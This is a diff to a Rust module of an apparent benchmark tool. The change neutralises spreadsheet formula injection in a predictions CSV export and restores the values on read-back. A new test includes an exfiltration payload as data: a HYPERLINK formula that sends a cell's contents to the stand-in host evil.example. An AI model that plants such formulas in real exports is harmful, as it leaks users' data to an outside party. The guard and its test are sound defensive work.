@@ -1,13 +1,14 @@
 //! The prediction record: one row per lead × scorer × repeat, as written to
 //! `predictions.csv` / `predictions.jsonl` and read back by `bench report`.
 
+use std::borrow::Cow;
 use std::io::Write;
 use std::path::{Path, PathBuf};
 
 use serde::{Deserialize, Serialize};
 
 use crate::atomic::AtomicFile;
-use crate::lead::{Label, LeadError};
+use crate::lead::{Label, LeadError, guard_formula, unguard_formula};
 use crate::score::llm::Status;
 use crate::score::{Bands, Score};
 
@@ -112,6 +113,31 @@ impl Prediction {
     pub fn probabilities(&self) -> Option<[f64; 3]> {
         Some([self.p_low?, self.p_medium?, self.p_high?])
     }
+
+    /// The free-text fields, which a CSV cell guard applies to (the others are numbers,
+    /// enums and ids of the tool's own making).
+    fn text_fields_mut(&mut self) -> [&mut String; 6] {
+        [
+            &mut self.run_id,
+            &mut self.lead_id,
+            &mut self.scorer,
+            &mut self.justification,
+            &mut self.error,
+            &mut self.raw_response,
+        ]
+    }
+
+    /// This prediction as `predictions.csv` holds it: text cells a spreadsheet would run
+    /// as formulas neutralised (see [`guard_formula`]).
+    fn for_csv(&self) -> Prediction {
+        let mut p = self.clone();
+        for t in p.text_fields_mut() {
+            if let Cow::Owned(guarded) = guard_formula(t) {
+                *t = guarded;
+            }
+        }
+        p
+    }
 }
 
 /// Writes predictions as they come to `predictions.csv` and `predictions.jsonl` in a run
@@ -134,7 +160,9 @@ impl PredictionSink {
     }
 
     pub fn push(&mut self, p: &Prediction) -> std::io::Result<()> {
-        self.csv.serialize(p).map_err(std::io::Error::other)?;
+        self.csv
+            .serialize(p.for_csv())
+            .map_err(std::io::Error::other)?;
         serde_json::to_writer(&mut self.jsonl, p).map_err(std::io::Error::other)?;
         self.jsonl.write_all(b"\n")?;
         self.written += 1;
@@ -190,6 +218,12 @@ fn read_predictions_with(
             line: e.position().map_or(i as u64 + 2, |p| p.line()),
             message: format!("expected a prediction row as `bench run` writes it: {e}"),
         })?;
+        for t in row.text_fields_mut() {
+            let original = unguard_formula(t);
+            if original.len() != t.len() {
+                *t = original.to_string();
+            }
+        }
         trim(&mut row);
         out.push(row);
     }
@@ -230,5 +264,31 @@ mod tests {
         assert_eq!(a.parsed(), Some((Label::Medium, 72)));
         assert_eq!(b.parsed(), None);
         assert_eq!(b.probabilities(), None);
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_in_csv_and_exact_in_jsonl() {
+        let score = Score {
+            lead_score: 90,
+            lead_label: Label::High,
+            justification: "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")".into(),
+            probabilities: None,
+        };
+        let mut p = Prediction::from_score("r", "-L1", "llm/m/p", score, &Bands::default(), 1.0);
+        p.raw_response = "@SUM(1+1)".into();
+        p.error = "'=already quoted".into();
+        let dir = tempfile::tempdir().expect("tempdir");
+        let mut sink = PredictionSink::create(dir.path()).expect("sink");
+        sink.push(&p).expect("push");
+        sink.finish().expect("finish");
+        let csv = std::fs::read_to_string(dir.path().join("predictions.csv")).expect("csv");
+        for cell in ["'=HYPERLINK", "'-L1", "'@SUM", "''=already"] {
+            assert!(csv.contains(cell), "{cell} not guarded in {csv}");
+        }
+        let jsonl = std::fs::read_to_string(dir.path().join("predictions.jsonl")).expect("jsonl");
+        let exact: Prediction = serde_json::from_str(jsonl.trim()).expect("json");
+        assert_eq!(exact, p);
+        let back = read_predictions_csv(&dir.path().join("predictions.csv")).expect("read back");
+        assert_eq!(back, vec![p]);
     }
 }
